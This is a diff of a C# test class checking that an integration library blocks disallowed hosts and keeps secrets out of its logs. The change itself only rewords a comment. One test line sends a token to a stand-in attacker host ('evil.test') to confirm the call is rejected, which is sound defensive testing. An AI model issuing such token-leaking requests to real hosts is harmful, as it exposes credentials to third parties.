@@ -24,9 +24,9 @@ public sealed class LogTests
         await Assert.ThrowsAsync<IntegrationHostNotAllowedException>(() => basicClient.GetAsync("https://evil.test/?token=leak"));
         await host.Connections.DeleteConnectionAsync(basic.Id);
 
-        // The library's own categories. (IHttpClientFactory's trace-level header log, category
-        // System.Net.Http.HttpClient.*, redacts its message but carries raw header values in its
-        // structured state: a framework behaviour, reported separately.)
+        // The library's own categories. (IHttpClientFactory's default trace-level header log
+        // carries raw header values in its structured state; integration clients replace it with
+        // a header-free logger, which LifecycleSecretLeakTests checks across every category.)
         var records = host.Services.GetFakeLogCollector().GetSnapshot()
             .Where(r => r.Category?.StartsWith("Scoutflo.", StringComparison.Ordinal) == true)
             .ToList();
